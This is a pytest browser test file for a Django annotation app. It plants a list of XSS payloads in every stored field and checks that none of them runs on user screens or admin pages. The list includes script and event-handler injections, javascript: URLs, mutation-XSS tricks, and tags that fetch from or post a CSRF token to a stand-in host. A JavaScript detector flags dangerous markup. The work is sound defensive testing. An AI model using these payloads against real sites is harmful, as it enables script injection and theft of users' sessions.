"""Words that would be scripts, stored wherever somebody writes, and shown on every screen.

Screens are looked at with the page's policy switched off: whatever got into a page as markup
would run. What the policy would stop beyond that is no excuse for it.
"""

from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote_plus

import pytest
from django.urls import reverse

from annotations.admin import SHOWN
from tests.browser.screens import SCREENS, Scene, Screen, build, kept_tables
from tests.conftest import PATIENCE, carry_session

#: Ways out of text, attributes, titles, comments, JSON in a script and templates. Each element
#: carries the attribute ``hostile``, by which it is found if it becomes one. Short ones first:
#: a field takes as many of them as it has room for.
PAYLOADS = [
    "<img hostile src=x onerror=alert(1)>",
    "<script hostile>alert(2)</script>",
    "</script><script hostile>alert(3)</script>",
    '"><svg hostile onload=alert(4)>',
    "'><svg hostile onload=alert(5)>",
    '" onfocus=alert(6) autofocus hostile="',
    "' onmouseover=alert(7) hostile='",
    "</title></textarea></style></option><img hostile src=x onerror=alert(8)>",
    "--><img hostile src=x onerror=alert(9)><!--",
    "]]><b hostile onclick=alert(10)>",
    "<a hostile href=javascript:alert(11)>go</a>",
    "<a href='&#x6a;avascript:alert(12)'>go</a>",
    "<a href='java\tscript:alert(13)'>go</a>",
    "<a href='data:text/html,<script>alert(14)</script>'>go</a>",
    "javascript:alert(15)",
    "&lt;img hostile src=x onerror=alert(16)&gt;",
    "\\u003cimg hostile src=x onerror=alert(17)\\u003e",
    "<iframe hostile srcdoc='<script>parent.alert(18)</script>'></iframe>",
    "<details hostile open ontoggle=alert(19)>",
    "<noscript><p title='</noscript><img hostile src=x onerror=alert(20)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img hostile src=x onerror=alert(21)>",
    "<svg><style><img hostile src=x onerror=alert(22)></style></svg>",
    "<style hostile>*{background:url(https://elsewhere.example/s)}</style>",
    "<link hostile rel=stylesheet href=https://elsewhere.example/l>",
    "<meta hostile http-equiv=refresh content='0;url=https://elsewhere.example/m'>",
    "<base hostile href=https://elsewhere.example/>",
    "<img hostile src=https://elsewhere.example/i>",
    "<p hostile style='background:url(https://elsewhere.example/p)'>",
    "<form hostile action=https://elsewhere.example/><input name=csrfmiddlewaretoken>",
    "<input hostile form=x formaction=javascript:alert(23) autofocus>",
    "<div hostile id=workspace-data>{}</div>",
    "<{{ 1000|add:234 }}>{% debug %}${alert(24)}",
]

#: Where what was stored in a field must be seen, or a test of that screen would prove nothing.
SHOWS = {
    "projects": {"project"},
    "articles": {"project", "title", "byline", "publisher"},
    "article": {"title", "byline", "publisher", "text", "note", "speaker", "alias", "role"},
    "article, active span": {"note", "speaker", "definition"},
    "article, popover with fields": {"speaker", "label x"},
    "article, guide": {"guidelines", "definition"},
    "article, evidence": {"quotation", "source", "paraphrase", "verdict", "where", "reply"},
    "mark, which of them": {"title"},
    "span": {"note", "speaker", "person"},
    "blocks": {"title", "text"},
    "evidence": {
        *("source", "source publisher", "source author", "quotation", "original", "locator"),
        *("paraphrase", "verdict", "where", "what", "who", "reply", "why", "secret", "details"),
        *("citation note", "archive"),
    },
    "second reading": {"title", "quotation"},
    "second reading, returned": {"reason", "note", "person"},
    "second reading, proposal": {"reason"},
    "sign-off": {"title", "person"},
    "certificate": {"title", "byline", "publisher", "waiver", "person", "where", "reply"},
    "history": {"note", "reason", "comment", "answer", "paraphrase", "verdict"},
    "comments": {"comment", "answer", "mention", "more", "settled", "person"},
    "comments, names": {"mention", "person"},
    "article, comments": {"comment", "answer", "settled", "person"},
    "inbox": {"mention", "title", "person"},
    "versions": {"note", "old words", "new words", "person"},
    "versions, not found": {"old words", "person"},
    "versions, which of them": {"more words"},
    "details": {"title", "byline", "publisher", "licence", "text"},
    "spans": {"note", "speaker", "title", "person", "label x"},
    "sources": {"source", "source publisher"},
    "source": {"source", "source publisher", "source author", "source url", "source note"},
    "import": {"project", "person"},
    "import, looked at": {"file", "title", "byline", "publisher", "text"},
    "import, stored": {"file"},
    "settings": {
        *("project", "organisation", "guidelines", "definition", "label x", "label y", "label z"),
        *("person", "unlinked", "user"),
    },
    "guide": {"guidelines", "definition"},
}  # fmt: skip

#: What data may not become, in a page or in what its scripts put into it.
DANGEROUS = """() => {
  const found = [];
  const own = (address) => new URL(address, location.href).origin === location.origin;
  for (const one of document.querySelectorAll("*")) {
    const name = one.localName;
    const say = (what) => found.push(`${what}: ${one.outerHTML.slice(0, 200)}`);
    if (one.hasAttribute("hostile")) say("an element of data");
    if (["iframe", "frame", "object", "embed", "base", "style", "math", "portal"].includes(name)) {
      say("an element no page has");
    }
    if (name === "script" && one.type !== "application/json" && !(one.src && own(one.src))) {
      say("a script");
    }
    if (name === "meta" && one.httpEquiv) say("a directive");
    for (const { name: key, value } of one.attributes) {
      if (key.startsWith("on")) say("a handler");
      if (key === "srcdoc") say("a document");
      if (["href", "src", "action", "formaction", "data", "xlink:href"].includes(key)) {
        const address = value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
        if (/^(javascript|vbscript|data):/.test(address)) say("an address that runs");
        if (!["a", "area"].includes(name) && !own(value)) say("something fetched from elsewhere");
      }
      if (key === "style" && !/^(contain-intrinsic-size|inline-size|width|left|top|height|--|translate|transform|inset|position|max-|min-)[^<>]*$/.test(value)) {
        say("a style");
      }
      if (key === "style" && /url|expression|import/i.test(value)) say("a style that fetches");
    }
  }
  return found;
}"""

#: All that is on a page: words, attributes, what stands in fields and in JSON.
SEEN = """() => [
  document.documentElement.textContent,
  ...[...document.querySelectorAll("*")].flatMap((one) =>
    [...one.attributes].map((attribute) => attribute.value)),
  ...[...document.querySelectorAll("input, textarea")].map((one) => one.value),
].join("\\n")"""


def hostile(name: str, most: int) -> str:
    """Return the mark of a field and the payloads that it has room for, others in each field."""
    said = f"[{name}]"
    at = sum(map(ord, name)) % len(PAYLOADS)
    for payload in PAYLOADS[at:] + PAYLOADS[:at]:
        if not most or len(said) + len(payload) <= most:
            said += payload
    return said


@pytest.fixture(scope="module")
def transactional_db(django_db_setup: None, django_db_blocker: Any) -> Iterator[None]:
    """Take the place of pytest-django's, which empties the tables after every test."""
    with django_db_blocker.unblock(), kept_tables():
        yield


@pytest.fixture(scope="module")
def scene(transactional_db: None) -> Scene:
    return build(hostile)


class Watch:
    """A page, and what went wrong on it."""

    def __init__(self, browser: Any, url: str) -> None:
        self.wrong: list[str] = []
        context = browser.new_context(base_url=url, bypass_csp=True, reduced_motion="reduce")
        context.set_default_timeout(PATIENCE)
        context.on("weberror", lambda error: self.wrong.append(f"error: {error.error}"))
        context.on("dialog", self._refuse)
        context.on("request", lambda request: self._own(request.url, url))
        # ``alert`` is told of also where it would open no dialog, as in a page that is hidden.
        context.expose_function("told", lambda said: self.wrong.append(f"ran: {said}"))
        context.add_init_script(
            "for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])"
            " { window[name] = (said) => window.told(`${name} ${said}`); }"
        )
        self.page = context.new_page()

    def _refuse(self, dialog: Any) -> None:
        # A page with something unsaved asks before it is left.
        if dialog.type != "beforeunload":
            self.wrong.append(f"dialog: {dialog.message}")
        dialog.accept()

    def _own(self, address: str, url: str) -> None:
        if not address.startswith((f"{url}/", "data:", "about:")):
            self.wrong.append(f"asked {address}")


@pytest.fixture(scope="module")
def watches(browser: Any, scene: Scene, _server_process: Any) -> Iterator[dict[str | None, Watch]]:
    made: dict[str | None, Watch] = {}
    for who in {"root", *(screen.who for screen in SCREENS.values())}:
        made[who] = Watch(browser, _server_process.url)
        if who is not None:
            carry_session(made[who].page, scene.account(who), _server_process.url)
    yield made
    for watch in made.values():
        watch.page.context.close()


def look(watch: Watch, screen: Screen, scene: Scene) -> str:
    """Return what is on a screen once it has been looked at."""
    page = watch.page
    page.goto("about:blank")
    page.goto(screen.url(scene))
    if screen.act is not None:
        screen.act(page)
    # What an image that cannot be had runs, it runs a little later.
    page.wait_for_timeout(50)
    assert page.evaluate(DANGEROUS) == []
    assert watch.wrong == []
    return unquote_plus(page.evaluate(SEEN))


@pytest.mark.parametrize("name", SCREENS)
def test_nothing_stored_runs_on(watches: dict[str | None, Watch], scene: Scene, name: str) -> None:
    screen = SCREENS[name]
    seen = look(watches[screen.who], screen, scene)
    assert {field for field in SHOWS.get(name, ()) if f"[{field}]" not in seen} == set()
    assert "<1234>" not in seen


@pytest.mark.parametrize("model", SHOWN, ids=lambda model: model.__name__)
def test_nothing_stored_runs_in_the_admin(
    watches: dict[str | None, Watch], scene: Scene, model: Any
) -> None:
    about = model._meta
    base = f"admin:{about.app_label}_{about.model_name}"
    look(watches["root"], Screen(lambda _: reverse(f"{base}_changelist")), scene)
    for row in model.objects.all()[:3]:
        look(
            watches["root"],
            Screen(lambda _, key=row.pk: reverse(f"{base}_change", args=[key])),
            scene,
        )
